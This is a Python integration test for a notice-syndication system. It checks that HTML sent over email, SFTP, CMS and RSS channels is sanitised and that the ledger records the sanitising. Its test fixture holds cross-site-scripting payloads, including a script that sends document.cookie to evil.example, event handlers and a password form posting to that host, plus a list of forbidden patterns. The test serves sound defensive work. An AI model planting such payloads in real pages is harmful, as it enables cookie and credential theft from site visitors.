"""The publisher's HTML is sanitised for every channel that renders it, and the ledger says so.

A notice whose body carries a script, an event handler, a javascript: link,
an iframe and a form goes to real peers on loopback: an SMTP inbox, an SFTP
inbox (HTML), a CMS, and an RSS feed. None of them gets any of it; the
ledger records that sanitising changed the body; the feed's description is
escaped text, never markup.
"""

from __future__ import annotations

import copy
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from syndicate.demo.http_sink import HttpSink
from syndicate.store.base import Purpose
from syndicate.syndicator import Syndicator
from tests.conftest import BASE_NOTICE

if TYPE_CHECKING:
    from tests.peers.smtp import SmtpPeer
    from tests.peers.sshd import KeyPair, SshServer

pytestmark = pytest.mark.integration

HOSTILE_BODY = (
    '<p onclick="steal()">河源市东环路改造工程已具备招标条件。</p>'
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<p><a href="javascript:alert(1)">招标文件</a> <a href="https://ggzy.heyuan.gov.cn/">交易网</a></p>'
    '<iframe src="https://evil.example/"></iframe>'
    '<form action="https://evil.example/"><input name="password"></form>'
    '<img src="https://ggzy.heyuan.gov.cn/logo.png" onerror="steal()">'
)
FORBIDDEN = ("<script", "onclick", "onerror", "javascript:", "<iframe", "<form", "<input", "steal(")


def test_every_html_channel_gets_the_sanitised_body(
    tmp_path: Path,
    sink: HttpSink,
    smtp_server: SmtpPeer,
    sshd: SshServer,
    ssh_client_key: KeyPair,
) -> None:
    key = tmp_path / "id_ed25519"
    key.write_text(ssh_client_key.private_pem, encoding="ascii")
    key.chmod(0o600)
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (tmp_path / "channels.yaml").write_text(
        f"""
store: {{url: ledger.db}}
worker: {{poll_interval: 20ms, grace: 2s, lease: 30s}}
defaults: {{timeout: 10s, retry: {{max_attempts: 1}}}}
channels:
  mail:
    adapter: email_inbox
    host: 127.0.0.1
    port: {smtp_server.port}
    security: none
    from_address: ggzy@heyuan.gov.cn
    to: [tougao@hywb.cn]
  paper:
    adapter: sftp_inbox
    host: 127.0.0.1
    port: {sshd.port}
    username: {sshd.user}
    host_key: {sshd.host_key.fingerprint}
    private_key_file: {key}
    directory: {inbox}
    format: html
  site:
    adapter: cms_http
    url: {sink.url}/n
  screens:
    adapter: led_feed
    screens:
      - name: hall
        columns: 64
        lines: 4
        path: {{rss: feeds/hall.rss}}
        link: https://ggzy.heyuan.gov.cn/
routes:
  - channels: [mail, paper, site, screens]
""",
        encoding="utf-8",
    )
    notice = copy.deepcopy(BASE_NOTICE)
    notice.update(body_html=HOSTILE_BODY, summary=None, publish_at="2024-01-01T09:00:00+08:00")
    clean = copy.deepcopy(notice)
    clean.update(id="HYZB-2026-0002", body_html="<p>河源市东环路改造工程已具备招标条件。</p>")
    with Syndicator.from_config(tmp_path / "channels.yaml") as syndicator:
        syndicator.enqueue(notice)
        syndicator.enqueue(clean)
        syndicator.drain(timeout=60)
        # The screens also hold an expiry delivery, due at valid_until: not a publication.
        states = {
            (d.notice_id, d.channel): d.state.value
            for d in syndicator.store.deliveries()
            if d.purpose is Purpose.publish
        }
        hostile = syndicator.store.notice("HYZB-2026-0001", 1)
        honest = syndicator.store.notice("HYZB-2026-0002", 1)
    assert set(states.values()) == {"delivered"}, states
    assert hostile is not None
    assert honest is not None
    assert hostile.body_sanitized is True
    assert honest.body_sanitized is False

    mails = [
        "".join(
            str(part.get_content())
            for part in r.message.walk()
            if part.get_content_maintype() == "text"
        )
        for r in smtp_server.received
    ]
    posts = [r.body.decode("utf-8") for r in sink.requests]
    received = {
        "mail": next(m for m in mails if "HYZB-2026-0001" in m),
        "site": next(p for p in posts if "HYZB-2026-0001" in p),
        "paper": "".join(p.read_text(encoding="utf-8") for p in inbox.glob("HYZB-2026-0001*.html")),
    }
    for channel, text in received.items():
        assert "交易网" in text, channel  # the ordinary content went through
        for bad in FORBIDDEN:
            assert bad not in text, f"{bad} reached {channel}"

    feed = ET.parse(tmp_path / "feeds/hall.rss")  # noqa: S314 - a file this test made
    for item in feed.iter("item"):
        description = item.findtext("description") or ""
        assert "<" not in description, description
